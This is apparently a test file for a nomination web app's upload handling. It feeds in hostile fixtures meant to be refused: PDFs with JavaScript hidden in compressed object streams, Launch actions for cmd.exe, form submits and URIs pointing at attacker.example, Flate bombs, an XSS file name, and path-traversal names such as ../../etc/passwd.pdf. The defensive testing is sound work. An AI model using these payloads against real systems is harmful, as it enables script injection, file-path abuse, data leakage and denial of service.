import { monitorEventLoopDelay } from 'node:perf_hooks';
import zlib from 'node:zlib';
import { signIn, useTestApp, type Agent } from '../support/harness';
import { createCycle } from '../support/fixtures';
import { completeFields, fieldError, inputValue, postForm, textOf, JPEG, PDF, PDF_WITH_SCRIPT, PNG, type Fields, type Upload } from '../support/officer-forms';
import { solidPng } from '../certificates/images';
import { readable, tableFingerprints } from './support';
import { flate, flateBombs, flateTwice, flateWithPngPredictor, manyStreamKeywords, objectStreamData, pdfOf, pdfkitDocument, streamOf, withHiddenObjects } from '../web/pdf-files';

const MB = 1024 * 1024;
const pdfOfSize = (bytes: number) => Buffer.concat([PDF, Buffer.alloc(bytes - PDF.length, 0x20)]);
/** A PDF 1.5 whose one object — a JavaScript action — sits compressed in an object stream. */
const hiddenScript = (() => {
  const objects = zlib.deflateSync(Buffer.from('3 0 << /S /JavaScript /JS (app.alert(1)) >>'));
  return Buffer.concat([Buffer.from(`%PDF-1.5\n2 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${objects.length} >>\nstream\n`), objects, Buffer.from('\nendstream\nendobj\n%%EOF\n')]);
})();
/** A scan whose image bytes happen to hold `/JS` (three bytes: in megabytes of image data they turn up by chance). */
const scanWithUnluckyBytes = Buffer.concat([Buffer.from('%PDF-1.4\n1 0 obj\n<< /Subtype /Image /Length 16 /Filter /DCTDecode >>\nstream\n'), Buffer.from('\xff\xd8\xff/JS\x9c\x00/JSx/JS\x01\xff', 'latin1'), Buffer.from('\nendstream\nendobj\n%%EOF\n')]);
const HOSTILE_NAME = '<img src=x onerror=alert(1)>.pdf';
const SCRIPT_ACTION = '<< /S /JavaScript /JS (app.alert(1)) >>';
const catalog = (entries: string) => `<< /Type /Catalog /Pages 2 0 R ${entries} >>`;
const PAGES = '<< /Type /Pages /Kids [] /Count 0 >>';
const openAction = (action: string) => pdfOf([catalog(`/OpenAction ${action}`), PAGES]);
const XFA_WITH_SCRIPT = pdfOf([catalog('/AcroForm << /XFA 3 0 R >>'), PAGES, streamOf('/Filter /FlateDecode', zlib.deflateSync(Buffer.from('<xdp:xdp><template><subform><event activity="initialize"><script>app.alert(1)</script></event></subform></template></xdp:xdp>')))]);
const ENCRYPTED = pdfOf([catalog(''), PAGES, '<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>'], { trailer: '/Encrypt 3 0 R /ID [<01> <01>]' });
const UNDECODABLE_OBJECTS = pdfOf([catalog(''), PAGES, streamOf(`${objectStreamData(['<< >>'], 4).entries} /Filter /FlateDecode`, Buffer.from('not flate data'))]);
const SCRIPT_REFUSED = 'содержит сценарии, вложения или действия, которые сами открывают программы, файлы или адреса';

/**
 * A multipart body carrying file names exactly as given. supertest's form-data cuts a name to its last
 * part before sending it, so a path would never reach the app; a forged request sends whatever it likes.
 * Line breaks and quotes are escaped as browsers do (%0A, %0D, %22). Other control characters cannot
 * stand raw in a part's header (the parser refuses the whole form as unreadable), so a name holding them
 * travels in its RFC 5987 form, `filename*=UTF-8''…`, which the parser decodes; unless `raw` is asked for.
 */
function rawMultipart(fields: Fields, files: Array<{ field: string; name: string; data: Buffer; raw?: boolean }>): { type: string; body: Buffer } {
  const boundary = `----laureate${Math.random().toString(16).slice(2)}`;
  const escape = (v: string) => v.replace(/\r/g, '%0D').replace(/\n/g, '%0A').replace(/"/g, '%22');
  const parts: Buffer[] = [];
  for (const [name, value] of Object.entries(fields)) {
    if (value === undefined) continue;
    for (const v of Array.isArray(value) ? value : [value]) parts.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${escape(name)}"\r\n\r\n${v}\r\n`));
  }
  for (const f of files) {
    const extended = !f.raw && /\p{Cc}/u.test(f.name.replace(/[\r\n]/g, ''));
    const filename = extended ? `filename*=UTF-8''${encodeURIComponent(f.name)}` : `filename="${escape(f.name)}"`;
    parts.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${f.field}"; ${filename}\r\nContent-Type: application/octet-stream\r\n\r\n`), f.data, Buffer.from('\r\n'));
  }
  parts.push(Buffer.from(`--${boundary}--\r\n`));
  return { type: `multipart/form-data; boundary=${boundary}`, body: Buffer.concat(parts) };
}

/** File names with path tricks, as a forged request could send them: each is refused, never cleaned up and kept. */
const TRICK_NAMES: Array<[string, string]> = [
  ['folders going up', '../../etc/passwd.pdf'],
  ['Windows folders going up', '..\\..\\windows\\win.ini.pdf'],
  ['an absolute path', '/etc/passwd.pdf'],
  ['a folder', 'документы/ходатайство.pdf'],
  ['nothing but ..', '..'],
  ['a leading dot (a hidden file)', '.hidden.pdf'],
  ['a NUL byte', 'ходатайство.pdf\u0000.exe'],
  ['a line break', 'ходатайство\n.pdf'],
  ['a bell character', 'ходатайство\u0007.pdf'],
  ['a right-to-left override', 'ходатайство\u202egnp.pdf'],
];
/** How a refused name is quoted back: control characters as �. */
const shown = (name: string) => name.replace(/[\p{Cc}\u202a-\u202e\u2066-\u2069]/gu, '\ufffd');

/**
 * Every refused upload — of a nomination's documents and of a certificate template's emblem and background —
 * answers with the form again and a message naming the file, and stores nothing at all.
 */
describe('uploads: refused with a clear message, nothing stored', () => {
  const t = useTestApp();
  let officer: { agent: Agent; csrf: string };
  let admin: { agent: Agent; csrf: string };
  let cycleId: number;
  let categoryId: number;

  beforeAll(async () => {
    officer = await signIn(t.app, 'officer@example.org');
    admin = await signIn(t.app, 'admin@example.org');
    const { cycle, categories } = await createCycle(t.ds);
    cycleId = cycle.id;
    categoryId = categories[0].id;
  });

  describe('documents of a nomination', () => {
    const create = (uploads: Upload[]) =>
      postForm(officer.agent, `/officer/cycles/${cycleId}/nominations`, officer.csrf, { ...completeFields(categoryId, { 'nominee.lastName': 'Загрузкина', 'nominee.position': 'заведующая отделением' }), action: 'save' }, uploads);

    const refusals: Array<[string, Upload[], number, string]> = [
      ['a file over 10 MB (stopped while it streams in)', [{ name: 'большой.pdf', data: pdfOfSize(10 * MB + 2) }], 413, 'Файл «большой.pdf» больше 10 МБ.'],
      ['a file one byte over 10 MB', [{ name: 'чуть-больше.pdf', data: pdfOfSize(10 * MB + 1) }], 413, 'Файл «чуть-больше.pdf» больше 10 МБ.'],
      ['an empty file', [{ name: 'пустой.pdf', data: Buffer.alloc(0) }], 400, 'Файл «пустой.pdf» пустой.'],
      ['a text file named .pdf', [{ name: 'notes.pdf', data: Buffer.from('just some text') }], 400, 'Файл «notes.pdf» не является PDF, JPEG или PNG'],
      ['a PNG named .pdf', [{ name: 'photo.pdf', data: PNG }], 400, 'Файл «photo.pdf» не является PDF, JPEG или PNG'],
      ['a PDF named .jpg', [{ name: 'scan.jpg', data: PDF }], 400, 'Файл «scan.jpg» не является PDF, JPEG или PNG'],
      ['a PDF carrying JavaScript', [{ name: 'active.pdf', data: PDF_WITH_SCRIPT }], 400, `Файл «active.pdf» ${SCRIPT_REFUSED}`],
      ['a PDF spelling its JavaScript action with #xx escapes', [{ name: 'escaped.pdf', data: Buffer.from('%PDF-1.4\n1 0 obj<< /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>endobj\n%%EOF\n') }], 400, `Файл «escaped.pdf» ${SCRIPT_REFUSED}`],
      ['a PDF hiding its JavaScript in a compressed object stream', [{ name: 'hidden.pdf', data: hiddenScript }], 400, `Файл «hidden.pdf» ${SCRIPT_REFUSED}`],
      ['a PDF hiding its object stream behind fake stream markers', [{ name: 'comment.pdf', data: Buffer.concat([Buffer.from('%PDF-1.5\n%stream\n'), hiddenScript.subarray(9, hiddenScript.indexOf('/N 1')), Buffer.from('/X (stream\n) '), hiddenScript.subarray(hiddenScript.indexOf('/N 1'))]) }], 400, `Файл «comment.pdf» ${SCRIPT_REFUSED}`],
      ['a PDF whose object stream is hex-encoded', [{ name: 'hex.pdf', data: Buffer.from(`%PDF-1.5\n2 0 obj\n<< /Type /ObjStm /Filter /ASCIIHexDecode >>\nstream\n${Buffer.from('3 0 << /S /JavaScript >>').toString('hex')}>\nendstream\nendobj\n%%EOF\n`) }], 400, `Файл «hex.pdf» ${SCRIPT_REFUSED}`],
      ['a PDF launching a program', [{ name: 'launch.pdf', data: Buffer.from('%PDF-1.4\n1 0 obj<< /OpenAction << /S /Launch /F (cmd.exe) >> >>endobj\n%%EOF\n') }], 400, `Файл «launch.pdf» ${SCRIPT_REFUSED}`],
      ['a PDF hiding JavaScript in an object stream compressed twice', [{ name: 'twice.pdf', data: withHiddenObjects([SCRIPT_ACTION], flateTwice) }], 400, `Файл «twice.pdf» ${SCRIPT_REFUSED}`],
      ['a PDF hiding JavaScript behind a PNG predictor', [{ name: 'predictor.pdf', data: withHiddenObjects([SCRIPT_ACTION], (d) => flateWithPngPredictor(d)) }], 400, `Файл «predictor.pdf» ${SCRIPT_REFUSED}`],
      ['a PDF with an XFA form running a script', [{ name: 'xfa.pdf', data: XFA_WITH_SCRIPT }], 400, `Файл «xfa.pdf» ${SCRIPT_REFUSED}`],
      ['a PDF opening another file on a network share', [{ name: 'gotor.pdf', data: openAction('<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>') }], 400, `Файл «gotor.pdf» ${SCRIPT_REFUSED}`],
      ['a PDF sending its form on opening', [{ name: 'submit.pdf', data: openAction('<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> >>') }], 400, `Файл «submit.pdf» ${SCRIPT_REFUSED}`],
      ['a PDF importing form data on opening', [{ name: 'import.pdf', data: openAction('<< /S /ImportData /F (data.fdf) >>') }], 400, `Файл «import.pdf» ${SCRIPT_REFUSED}`],
      ['a PDF opening a web address by itself', [{ name: 'uri.pdf', data: openAction('<< /S /URI /URI (https://attacker.example/) >>') }], 400, `Файл «uri.pdf» ${SCRIPT_REFUSED}`],
      ['an encrypted PDF', [{ name: 'locked.pdf', data: ENCRYPTED }], 400, 'Файл «locked.pdf» защищён паролем или зашифрован, поэтому его нельзя проверить; сохраните копию без защиты.'],
      ['a PDF whose object stream does not decode', [{ name: 'broken.pdf', data: UNDECODABLE_OBJECTS }], 400, 'Файл «broken.pdf» повреждён или сжат способом, который нельзя проверить; сохраните его заново как обычный PDF.'],
      ['a PDF of Flate bombs', [{ name: 'bomb.pdf', data: flateBombs() }], 400, 'Файл «bomb.pdf» нельзя проверить: в распакованном виде он больше 64 МБ или состоит из слишком многих частей'],
      ['a file whose name is markup', [{ name: HOSTILE_NAME, data: Buffer.from('text') }], 400, 'Файл «<img src=x onerror=alert(1)>.pdf» не является'],
      ['eleven files', Array.from({ length: 11 }, (_, i) => ({ name: `doc${i}.pdf`, data: PDF, slot: i % 3 })), 400, 'К заявке можно приложить не больше 10 файлов.'],
    ];

    it.each(refusals)('refuses %s, naming it, keeps the form as typed and stores nothing', async (_what, uploads, status, message) => {
      const before = await tableFingerprints(t.ds);
      const res = await create(uploads);
      expect(res.status).toBe(status);
      // a name made of markup reads back as text only if the page escaped it
      expect(res.text).not.toContain('<img src=x');
      expect(readable(res.text)).toContain(message);
      expect(textOf(res.text)).toContain('Заявка не сохранена');
      expect(inputValue(res.text, 'nominee.lastName')).toBe('Загрузкина');
      expect(inputValue(res.text, 'nominee.position')).toBe('заведующая отделением');
      expect(await tableFingerprints(t.ds)).toEqual(before);
    });

    it('names every refused file when several are bad at once, and stores none of them, the good one neither', async () => {
      const before = await tableFingerprints(t.ds);
      const res = await create([{ name: 'good.pdf', data: PDF }, { name: 'bad.pdf', data: PNG, slot: 1 }, { name: 'empty.png', data: Buffer.alloc(0), slot: 2 }]);
      expect(res.status).toBe(400);
      expect(textOf(res.text)).toContain('Файл «bad.pdf» не является');
      expect(textOf(res.text)).toContain('Файл «empty.png» пустой.');
      expect(textOf(res.text)).not.toContain('«good.pdf»');
      expect(await tableFingerprints(t.ds)).toEqual(before);
    });

    it('refuses a file sent in a field the form does not have, and a broken multipart body, as a page and not an error', async () => {
      const before = await tableFingerprints(t.ds);
      const unknown = await officer.agent.post(`/officer/cycles/${cycleId}/nominations`).field('_csrf', officer.csrf).field('nominee.lastName', 'Полевая').attach('evil', PDF, 'x.pdf');
      expect(unknown.status).toBe(400);
      expect(textOf(unknown.text)).toContain('Форма прислала файл в неизвестном поле');
      expect(inputValue(unknown.text, 'nominee.lastName')).toBe('Полевая');
      const body = `--xyz\r\nContent-Disposition: form-data; name="_csrf"\r\n\r\n${officer.csrf}\r\n--xyz\r\nContent-Disposition: form-data; name="nominee.lastName"\r\n\r\nОборванная\r\n--xyz\r\nContent-Disposition: form-data; name="files0"; filename="a.pdf"\r\n\r\n%PDF-1.4 cut`;
      const cut = await officer.agent.post(`/officer/cycles/${cycleId}/nominations`).set('Content-Type', 'multipart/form-data; boundary=xyz').send(body);
      expect(cut.status).toBe(400);
      expect(textOf(cut.text)).toContain('Не удалось прочитать отправленную форму');
      expect(inputValue(cut.text, 'nominee.lastName')).toBe('Оборванная');
      const noBoundary = await officer.agent.post(`/officer/cycles/${cycleId}/nominations`).set('Content-Type', 'multipart/form-data').send('garbage');
      expect(noBoundary.status).toBe(400);
      expect(await tableFingerprints(t.ds)).toEqual(before);
    });

    const createRaw = (agent: Agent, csrf: string, files: Array<{ name: string; data: Buffer; slot?: number }>) => {
      const { type, body } = rawMultipart(
        { _csrf: csrf, kind0: 'recommendation', kind1: 'cv', kind2: 'diploma', ...completeFields(categoryId, { 'nominee.lastName': 'Загрузкина', 'nominee.position': 'заведующая отделением' }), action: 'save' },
        files.map((f) => ({ field: `files${f.slot ?? 0}`, name: f.name, data: f.data })),
      );
      return agent.post(`/officer/cycles/${cycleId}/nominations`).set('Content-Type', type).send(body);
    };

    it.each(TRICK_NAMES)('refuses a real PDF whose name holds %s, naming it, keeps the form as typed and stores nothing', async (_what, name) => {
      const before = await tableFingerprints(t.ds);
      const res = await createRaw(officer.agent, officer.csrf, [{ name, data: PDF }]);
      expect(res.status).toBe(400);
      expect(readable(res.text)).toContain(`Имя файла «${shown(name)}» не подходит: в нём не должно быть папок («/» или «\\»), «..» и управляющих символов, и оно не должно начинаться с точки.`);
      expect(textOf(res.text)).toContain('Заявка не сохранена');
      expect(inputValue(res.text, 'nominee.lastName')).toBe('Загрузкина');
      expect(inputValue(res.text, 'nominee.position')).toBe('заведующая отделением');
      expect(await tableFingerprints(t.ds)).toEqual(before);
    });

    it('refuses a control character sent raw in the part\'s header as an unreadable form, keeping what was typed and storing nothing', async () => {
      const before = await tableFingerprints(t.ds);
      const { type, body } = rawMultipart({ _csrf: officer.csrf, ...completeFields(categoryId, { 'nominee.lastName': 'Загрузкина' }), action: 'save' }, [{ field: 'files0', name: 'ходатайство\u0007.pdf', data: PDF, raw: true }]);
      const res = await officer.agent.post(`/officer/cycles/${cycleId}/nominations`).set('Content-Type', type).send(body);
      expect(res.status).toBe(400);
      expect(textOf(res.text)).toContain('Не удалось прочитать отправленную форму. Ничего не сохранено');
      expect(inputValue(res.text, 'nominee.lastName')).toBe('Загрузкина');
      expect(await tableFingerprints(t.ds)).toEqual(before);
    });

    it('says so in English to an English reader, and stores no file, the good one sent with it neither', async () => {
      const english = await signIn(t.app, 'officer@example.org');
      await english.agent.get('/lang/en').expect(303);
      const before = await tableFingerprints(t.ds);
      const res = await createRaw(english.agent, english.csrf, [{ name: 'good.pdf', data: PDF }, { name: '../../etc/passwd.pdf', data: PDF, slot: 1 }]);
      expect(res.status).toBe(400);
      expect(readable(res.text)).toContain('The file name “../../etc/passwd.pdf” is not allowed: it must not contain folders (“/” or “\\”), “..” or control characters, nor start with a dot. Rename the file and choose it again.');
      expect(readable(res.text)).not.toContain('“good.pdf”');
      expect(inputValue(res.text, 'nominee.lastName')).toBe('Загрузкина');
      expect(await tableFingerprints(t.ds)).toEqual(before);
    });

    it('keeps a plain name with quotes, brackets or dots inside, cleaned of what a download header cannot carry', async () => {
      const res = await createRaw(officer.agent, officer.csrf, [{ name: 'скан "паспорта" <1>.pdf', data: PDF }, { name: 'отчёт..итог.pdf', data: PDF, slot: 1 }]);
      expect(res.status).toBe(303);
      const id = Number(/(\d+)$/.exec(res.headers.location)![1]);
      const names = (await t.ds.query(`SELECT file_name FROM attachment WHERE nomination_id = $1 ORDER BY id`, [id])).map((r: { file_name: string }) => r.file_name);
      expect(names).toEqual(['скан паспорта 1.pdf', 'отчёт..итог.pdf']);
    });

    it('says an encrypted PDF cannot be checked in English to an English reader', async () => {
      const english = await signIn(t.app, 'officer@example.org');
      await english.agent.get('/lang/en').expect(303);
      const res = await postForm(english.agent, `/officer/cycles/${cycleId}/nominations`, english.csrf, { ...completeFields(categoryId), action: 'save' }, [{ name: 'locked.pdf', data: ENCRYPTED }]);
      expect(res.status).toBe(400);
      expect(readable(res.text)).toContain('The file “locked.pdf” is password-protected or encrypted, so it cannot be checked; save a copy without protection.');
    });

    it('accepts a real compressed PDF (made by PDFKit, as the app makes certificates) with an image and a link to click', async () => {
      const cv = await pdfkitDocument({ link: 'https://pubmed.ncbi.nlm.nih.gov/', image: solidPng(40, 40) });
      const res = await create([{ name: 'резюме.pdf', data: cv }, { name: 'объекты.pdf', data: withHiddenObjects(['<< /S /GoTo /D [2 0 R /Fit] >>'], flate), slot: 1 }]);
      expect(res.status).toBe(303);
    });

    it.each([
      ['100 KB of `stream` keywords (once quadratic: 10 s)', manyStreamKeywords(), 303],
      ['twenty Flate bombs (once 3 s)', flateBombs(), 400],
    ])('scans %s without holding the event loop: other requests are answered meanwhile', async (_what, data, status) => {
      const delay = monitorEventLoopDelay({ resolution: 10 });
      delay.enable();
      let res;
      try {
        res = await create([{ name: 'hostile.pdf', data }]);
      } finally {
        delay.disable();
      }
      expect(res.status).toBe(status);
      // The old scan held the loop for 10 s and 3 s. The whole request is measured here, and saving through the
      // embedded database (synchronous WebAssembly) alone holds it for 100–200 ms on a busy machine, so the bound
      // is a second (what /healthz may wait in a deadline rush); the scan's own bound (250 ms on a shared machine, slices of 8 ms by design) is proved in
      // test/web/pdf-scan.test.ts.
      expect(delay.max / 1e6).toBeLessThan(1000);
    });

    it('accepts a scan whose image bytes merely contain "/JS", with no script after it', async () => {
      const res = await create([{ name: 'скан.pdf', data: scanWithUnluckyBytes }, { name: 'фото.jpg', data: JPEG, slot: 1 }]);
      expect(res.status).toBe(303);
    });
  });

  describe('the emblem and background of a certificate template', () => {
    const url = () => `/admin/cycles/${cycleId}/certificates/templates/winner`;
    const post = (field: 'emblem' | 'background', file: { data: Buffer; name: string }) =>
      admin.agent.post(url()).field('_csrf', admin.csrf).field('title', 'Диплом').field('body', 'награждается {nominee.fullName}').field('accentColor', '#1d4f91').attach(field, file.data, file.name);

    const refusals: Array<[string, 'emblem' | 'background', { data: Buffer; name: string }, number, string]> = [
      ['far over 2 MB (stopped while it streams in)', 'emblem', { data: Buffer.alloc(2 * MB + 10, 1), name: 'huge.png' }, 413, 'Файл больше 2 МБ.'],
      ['one byte over 2 MB', 'background', { data: Buffer.concat([solidPng(), Buffer.alloc(2 * MB + 1 - solidPng().length)]), name: 'фон.png' }, 413, 'Файл «фон.png» больше 2 МБ.'],
      ['empty', 'emblem', { data: Buffer.alloc(0), name: 'герб.png' }, 400, 'Файл «герб.png» пустой.'],
      ['text named .png', 'background', { data: Buffer.from('not an image'), name: 'фон.png' }, 400, 'Файл «фон.png» не является PDF, JPEG или PNG'],
      ['a PNG named .pdf', 'emblem', { data: solidPng(), name: 'герб.pdf' }, 400, 'Файл «герб.pdf» не является PDF, JPEG или PNG'],
      ['a PDF', 'emblem', { data: PDF, name: 'герб.pdf' }, 400, 'Файл «герб.pdf» — не изображение; нужен PNG или JPEG.'],
      ['a PDF with JavaScript', 'background', { data: PDF_WITH_SCRIPT, name: 'фон.pdf' }, 400, 'Файл «фон.pdf» — не изображение; нужен PNG или JPEG.'],
      ['only the signature of a PNG', 'background', { data: PNG, name: 'фон.png' }, 400, 'Изображение «фон.png» не удалось прочитать'],
      ['named with markup', 'emblem', { data: Buffer.from('x'), name: '<img src=x onerror=alert(1)>.png' }, 400, 'не является PDF, JPEG или PNG'],
    ];

    it.each(refusals)('refuses an image %s, next to its field, and stores no template version', async (_what, field, file, status, message) => {
      const before = await tableFingerprints(t.ds);
      const res = await post(field, file);
      expect(res.status).toBe(status);
      expect(res.text).not.toContain('<img src=x');
      expect(readable(res.text)).toContain(message);
      expect(res.text).toContain('награждается {nominee.fullName}</textarea>');
      expect(await tableFingerprints(t.ds)).toEqual(before);
    });

    const postRaw = (agent: Agent, csrf: string, field: 'emblem' | 'background', name: string, data = solidPng()) => {
      const { type, body } = rawMultipart({ _csrf: csrf, title: 'Диплом', body: 'награждается {nominee.fullName}', accentColor: '#1d4f91' }, [{ field, name, data }]);
      return agent.post(url()).set('Content-Type', type).send(body);
    };
    const tricks: Array<[string, 'emblem' | 'background', string]> = [
      ['folders going up', 'emblem', '../герб.png'],
      ['Windows folders going up', 'background', '..\\..\\фон.png'],
      ['markup and folders', 'emblem', '../<img src=x onerror=alert(1)>.png'],
      ['a leading dot', 'background', '.фон.png'],
      ['a control character', 'emblem', 'герб\u0001.png'],
    ];

    it.each(tricks)('refuses a valid PNG named with %s, next to its field, keeps the form and stores no template version', async (_what, field, name) => {
      const before = await tableFingerprints(t.ds);
      const res = await postRaw(admin.agent, admin.csrf, field, name);
      expect(res.status).toBe(400);
      expect(res.text).not.toContain('<img src=x');
      expect(readable(fieldError(res.text, field) ?? '')).toContain(`Имя файла «${shown(name)}» не подходит`);
      expect(res.text).toContain('награждается {nominee.fullName}</textarea>');
      expect(await tableFingerprints(t.ds)).toEqual(before);
    });

    it('says so in English, and takes the same PNG under a plain name (so it was the name that was refused)', async () => {
      const english = await signIn(t.app, 'admin@example.org');
      await english.agent.get('/lang/en').expect(303);
      const before = await tableFingerprints(t.ds);
      const refused = await postRaw(english.agent, english.csrf, 'emblem', '../emblem.png');
      expect(refused.status).toBe(400);
      expect(readable(fieldError(refused.text, 'emblem') ?? '')).toContain('The file name “../emblem.png” is not allowed');
      expect(await tableFingerprints(t.ds)).toEqual(before);
      expect((await postRaw(english.agent, english.csrf, 'emblem', 'emblem.png')).status).toBe(303);
    });
  });
});
